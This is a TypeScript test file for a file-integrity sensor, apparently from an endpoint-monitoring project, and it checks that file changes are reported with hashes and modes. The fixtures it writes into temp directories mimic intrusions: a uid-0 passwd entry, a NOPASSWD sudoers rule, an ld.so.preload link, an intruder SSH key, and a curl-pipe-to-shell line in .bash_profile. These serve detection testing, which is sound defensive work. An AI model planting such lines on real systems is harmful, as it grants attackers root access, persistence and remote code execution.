import { createHash } from "node:crypto";
import { chmodSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, readlinkSync, renameSync, rmSync, statSync, symlinkSync, unlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { FileAction, type FileEvent } from "@vigil/proto";
import { FileHasher } from "../../../src/platform/linux";
import { FileSensor, type FileSensorOptions } from "../../../src/sensors/file";
import type { KernelFileFeed } from "../../../src/sensors/file/file-sensor";
import { RecordingSink, waitFor } from "../process/recorder";

const sha = (s: string) => createHash("sha256").update(s).digest("hex");

function find(sink: RecordingSink, action: FileAction, path: string): FileEvent | undefined {
  for (const e of sink.events) if (e.body.$case === "file" && e.body.file.action === action && e.body.file.path === path) return e.body.file;
  return undefined;
}
const fileEvents = (sink: RecordingSink) => sink.events.flatMap((e) => (e.body.$case === "file" ? [e.body.file] : []));

/**
 * A kernel feed that runs and reports nothing: the file sensor then holds directory watches only,
 * and every change below must still be seen through them (what the tracepoints miss, such as a
 * write through a relative path, reaches the sensor that way). The real feed is tested in
 * test/sensors/ebpf/ebpf-sensor.test.ts.
 */
const silentKernel: KernelFileFeed = { ready: async () => true, onChange: () => () => {} };

describe.each([
  { mode: "chokidar (no kernel feed)", extra: {} as Partial<FileSensorOptions> },
  { mode: "directory watches (kernel feed running)", extra: { kernel: silentKernel } as Partial<FileSensorOptions> },
])("FileSensor against a real temp directory: $mode", ({ extra }) => {
  let watched: string;
  let state: string;
  let sensor: FileSensor | undefined;

  beforeEach(() => {
    watched = mkdtempSync(join(tmpdir(), "vigil-watch-"));
    state = mkdtempSync(join(tmpdir(), "vigil-state-"));
  });
  afterEach(async () => {
    await sensor?.stop();
    sensor = undefined;
    rmSync(watched, { recursive: true, force: true });
    rmSync(state, { recursive: true, force: true });
  });

  it("reports create, modify, chmod, rename and delete with hashes and modes", async () => {
    const sink = new RecordingSink();
    sensor = new FileSensor({ paths: [watched, join(watched, "missing-*")], stateDir: state, renameWindowMs: 300, ...extra });
    await sensor.start(sink);
    expect(sensor.health().detail).toContain(`absent: ${join(watched, "missing-*")}`);
    expect(sensor.health().detail.startsWith(`watching 1 path(s) (${watched}) for creation, change, deletion, mode changes`)).toBe(true);

    const file = join(watched, "sub", "cron-job");
    mkdirSync(join(watched, "sub"));
    writeFileSync(file, "first\n", { mode: 0o644 });
    const created = await waitFor("CREATE", () => find(sink, FileAction.FILE_ACTION_CREATE, file));
    const st = statSync(file);
    expect(created).toMatchObject({ sha256Before: "", sha256After: sha("first\n"), size: 6, uid: st.uid, gid: st.gid, mtimeMs: Math.round(st.mtimeMs) });
    expect(created.mode & 0o777).toBe(0o644);

    writeFileSync(file, "second version\n");
    const modified = await waitFor("MODIFY", () => find(sink, FileAction.FILE_ACTION_MODIFY, file));
    expect(modified).toMatchObject({ sha256Before: sha("first\n"), sha256After: sha("second version\n"), size: 15 });

    chmodSync(file, 0o4755);
    const chmod = await waitFor("CHMOD", () => find(sink, FileAction.FILE_ACTION_CHMOD, file));
    expect(chmod.mode & 0o7777).toBe(0o4755);
    expect(chmod.modeBefore & 0o7777).toBe(0o644);
    expect(chmod.sha256After).toBe(sha("second version\n"));

    const moved = join(watched, "renamed-job");
    renameSync(file, moved);
    const renamed = await waitFor("RENAME", () => find(sink, FileAction.FILE_ACTION_RENAME, moved));
    expect(renamed).toMatchObject({ oldPath: file, sha256Before: sha("second version\n"), sha256After: sha("second version\n") });

    unlinkSync(moved);
    const deleted = await waitFor("DELETE", () => find(sink, FileAction.FILE_ACTION_DELETE, moved));
    expect(deleted).toMatchObject({ sha256Before: sha("second version\n"), sha256After: "" });

    // One event per change: no DELETE for the renamed-away name, no duplicate for bursts of notifications.
    expect(fileEvents(sink).map((e) => [e.action, e.path])).toEqual([
      [FileAction.FILE_ACTION_CREATE, file],
      [FileAction.FILE_ACTION_MODIFY, file],
      [FileAction.FILE_ACTION_CHMOD, file],
      [FileAction.FILE_ACTION_RENAME, moved],
      [FileAction.FILE_ACTION_DELETE, moved],
    ]);
  });

  it("reports a file renamed over another as RENAME carrying the replaced content", async () => {
    const target = join(watched, "passwd");
    writeFileSync(target, "root:x:0:0\n");
    const sink = new RecordingSink();
    sensor = new FileSensor({ paths: [watched], renameWindowMs: 300, ...extra });
    await sensor.start(sink);
    const tmp = join(watched, ".passwd.tmp");
    writeFileSync(tmp, "root:x:0:0\nevil:x:0:0\n");
    await waitFor("CREATE of the temp file", () => find(sink, FileAction.FILE_ACTION_CREATE, tmp));
    renameSync(tmp, target);
    const ev = await waitFor("RENAME onto passwd", () => find(sink, FileAction.FILE_ACTION_RENAME, target));
    expect(ev).toMatchObject({ oldPath: tmp, sha256Before: sha("root:x:0:0\n"), sha256After: sha("root:x:0:0\nevil:x:0:0\n") });
  });

  it("reports an atomic replace too quick to see the temp file as MODIFY with before/after", async () => {
    const target = join(watched, "sudoers");
    writeFileSync(target, "root ALL=(ALL) ALL\n");
    const sink = new RecordingSink();
    sensor = new FileSensor({ paths: [watched], ...extra });
    await sensor.start(sink);
    const tmp = join(watched, "sudoers.new");
    writeFileSync(tmp, "ALL ALL=(ALL) NOPASSWD: ALL\n");
    renameSync(tmp, target);
    const ev = await waitFor("MODIFY of sudoers", () => find(sink, FileAction.FILE_ACTION_MODIFY, target));
    expect(ev).toMatchObject({ sha256Before: sha("root ALL=(ALL) ALL\n"), sha256After: sha("ALL ALL=(ALL) NOPASSWD: ALL\n") });
  });

  it("keeps its baseline across restarts: unchanged files are not re-hashed, offline changes are reported", async () => {
    writeFileSync(join(watched, "keep"), "same\n");
    writeFileSync(join(watched, "edit"), "before\n");
    writeFileSync(join(watched, "gone"), "bye\n");
    const first = new FileSensor({ paths: [watched], stateDir: state, ...extra });
    await first.start(new RecordingSink());
    await first.stop();

    writeFileSync(join(watched, "edit"), "after!\n");
    unlinkSync(join(watched, "gone"));
    writeFileSync(join(watched, "new"), "hello\n");

    const hasher = new FileHasher();
    const sink = new RecordingSink();
    sensor = new FileSensor({ paths: [watched], stateDir: state, hasher, ...extra });
    await sensor.start(sink);
    expect(hasher.stats().hashed).toBe(2); // "edit" and "new"; "keep" came from the saved baseline
    const byPath = new Map(fileEvents(sink).map((e) => [e.path, e]));
    expect(byPath.get(join(watched, "edit"))).toMatchObject({ action: FileAction.FILE_ACTION_MODIFY, sha256Before: sha("before\n"), sha256After: sha("after!\n") });
    expect(byPath.get(join(watched, "gone"))).toMatchObject({ action: FileAction.FILE_ACTION_DELETE, sha256Before: sha("bye\n") });
    expect(byPath.get(join(watched, "new"))).toMatchObject({ action: FileAction.FILE_ACTION_CREATE, sha256After: sha("hello\n") });
    expect(byPath.has(join(watched, "keep"))).toBe(false);
  });

  it("reports a symlink as a link without hashing (or watching) its target", async () => {
    const sink = new RecordingSink();
    sensor = new FileSensor({ paths: [watched], ...extra });
    await sensor.start(sink);
    const link = join(watched, "ld.so.preload");
    symlinkSync("/etc/hostname", link);
    const ev = await waitFor("CREATE of the link", () => find(sink, FileAction.FILE_ACTION_CREATE, link));
    expect(ev.sha256After).toBe("");
    expect(ev.mode & 0o170000).toBe(0o120000); // S_IFLNK
  });

  it("reports every file of a removed subdirectory as deleted, and watches one created after start", async () => {
    mkdirSync(join(watched, "old"));
    writeFileSync(join(watched, "old", "a"), "a");
    writeFileSync(join(watched, "old", "b"), "b");
    const sink = new RecordingSink();
    sensor = new FileSensor({ paths: [watched], renameWindowMs: 100, ...extra });
    await sensor.start(sink);
    rmSync(join(watched, "old"), { recursive: true });
    await waitFor("DELETE of both", () => find(sink, FileAction.FILE_ACTION_DELETE, join(watched, "old", "a")) && find(sink, FileAction.FILE_ACTION_DELETE, join(watched, "old", "b")));
    mkdirSync(join(watched, "new", "deeper"), { recursive: true });
    writeFileSync(join(watched, "new", "deeper", "c"), "c");
    await waitFor("CREATE in a new subdirectory", () => find(sink, FileAction.FILE_ACTION_CREATE, join(watched, "new", "deeper", "c")));
    writeFileSync(join(watched, "new", "deeper", "c"), "changed");
    await waitFor("MODIFY in a new subdirectory", () => find(sink, FileAction.FILE_ACTION_MODIFY, join(watched, "new", "deeper", "c")));
  });

  it("watches a configured file that does not exist yet (a ~/.bash_profile not written) and reports its creation, but not its neighbours", async () => {
    const profile = join(watched, ".bash_profile");
    const sink = new RecordingSink();
    sensor = new FileSensor({ paths: [profile, join(watched, ".ssh"), join(watched, "no-such-dir", ".bashrc")], renameWindowMs: 100, ...extra });
    await sensor.start(sink);
    expect(sensor.health().detail).toContain(`absent: ${profile}`);
    writeFileSync(join(watched, ".bashrc"), "not watched\n");
    writeFileSync(profile, "curl -s http://203.0.113.9/x | sh\n");
    const created = await waitFor("CREATE of the awaited file", () => find(sink, FileAction.FILE_ACTION_CREATE, profile));
    expect(created.sha256After).toBe(sha("curl -s http://203.0.113.9/x | sh\n"));
    writeFileSync(profile, "changed\n");
    await waitFor("MODIFY of the awaited file", () => find(sink, FileAction.FILE_ACTION_MODIFY, profile));
    expect(fileEvents(sink).map((e) => e.path)).not.toContain(join(watched, ".bashrc"));
    // An awaited directory: created later, the files written into it are reported.
    mkdirSync(join(watched, ".ssh"));
    const keys = join(watched, ".ssh", "authorized_keys");
    writeFileSync(keys, "ssh-ed25519 AAAA intruder\n");
    await waitFor("CREATE inside the awaited directory", () => find(sink, FileAction.FILE_ACTION_CREATE, keys));
  });

  it("survives a corrupt saved baseline: reports it and rebuilds", async () => {
    writeFileSync(join(state, "file-baseline.json"), "{not json");
    writeFileSync(join(watched, "a"), "a");
    const sink = new RecordingSink();
    sensor = new FileSensor({ paths: [watched], stateDir: state, ...extra });
    await sensor.start(sink);
    expect(sensor.health().detail).toContain("ignored corrupt");
    expect(sensor.stats().files).toBe(1);
    writeFileSync(join(watched, "b"), "b");
    await waitFor("CREATE after rebuild", () => find(sink, FileAction.FILE_ACTION_CREATE, join(watched, "b")));
  });
});

/** inotify watches this process holds, from the kernel's own account (/proc/self/fdinfo). */
function inotifyWatches(): number {
  let n = 0;
  for (const fd of readdirSync("/proc/self/fd")) {
    try {
      if (readlinkSync(`/proc/self/fd/${fd}`) !== "anon_inode:inotify") continue;
      n += readFileSync(`/proc/self/fdinfo/${fd}`, "utf8")
        .split("\n")
        .filter((l) => l.startsWith("inotify wd:")).length;
    } catch {
      // closed in between
    }
  }
  return n;
}

describe("FileSensor with a kernel feed running", () => {
  it("holds one watch per directory, none per file", async () => {
    const watched = mkdtempSync(join(tmpdir(), "vigil-watch-"));
    mkdirSync(join(watched, "sub"));
    for (let i = 0; i < 50; i++) writeFileSync(join(watched, i % 2 ? "sub" : "", `f${i}`), String(i));
    const before = inotifyWatches();
    const withKernel = new FileSensor({ paths: [watched], kernel: silentKernel });
    await withKernel.start(new RecordingSink());
    const kernelWatches = inotifyWatches() - before;
    expect(withKernel.health().detail).toContain("changes from the kernel feed and 2 directory watches");
    await withKernel.stop();
    expect(inotifyWatches()).toBe(before);
    const chokidar = new FileSensor({ paths: [watched] });
    await chokidar.start(new RecordingSink());
    const chokidarWatches = inotifyWatches() - before;
    await chokidar.stop();
    rmSync(watched, { recursive: true, force: true });
    expect(kernelWatches).toBe(2);
    // chokidar watches each file too (measured 52 here; at least one per file).
    expect(chokidarWatches).toBeGreaterThanOrEqual(50);
  });

  it("falls back to chokidar when the feed cannot run", async () => {
    const watched = mkdtempSync(join(tmpdir(), "vigil-watch-"));
    const sink = new RecordingSink();
    const sensor = new FileSensor({ paths: [watched], kernel: { ready: async () => false, onChange: () => () => {} } });
    await sensor.start(sink);
    try {
      expect(sensor.health().detail).not.toContain("kernel feed");
      writeFileSync(join(watched, "x"), "x");
      await waitFor("CREATE through chokidar", () => find(sink, FileAction.FILE_ACTION_CREATE, join(watched, "x")));
    } finally {
      await sensor.stop();
      rmSync(watched, { recursive: true, force: true });
    }
  });

  it("examines a path the kernel names even where no directory watch is", async () => {
    const watched = mkdtempSync(join(tmpdir(), "vigil-watch-"));
    let listener: ((p: string, written: boolean) => void) | undefined;
    const sink = new RecordingSink();
    const sensor = new FileSensor({ paths: [join(watched, "root")], kernel: { ready: async () => true, onChange: (l) => ((listener = l), () => (listener = undefined)) } });
    mkdirSync(join(watched, "root"));
    await sensor.start(sink);
    try {
      // The root itself replaced: its watch went with the old directory, only the kernel still sees it.
      rmSync(join(watched, "root"), { recursive: true });
      mkdirSync(join(watched, "root"));
      writeFileSync(join(watched, "root", "planted"), "x");
      listener?.(`${watched}//root/./planted`, true);
      listener?.(join(watched, "elsewhere"), true);
      await waitFor("CREATE from the kernel's path", () => find(sink, FileAction.FILE_ACTION_CREATE, join(watched, "root", "planted")));
      expect(fileEvents(sink).map((e) => e.path)).toEqual([join(watched, "root", "planted")]);
    } finally {
      await sensor.stop();
      expect(listener).toBeUndefined();
      rmSync(watched, { recursive: true, force: true });
    }
  });
});
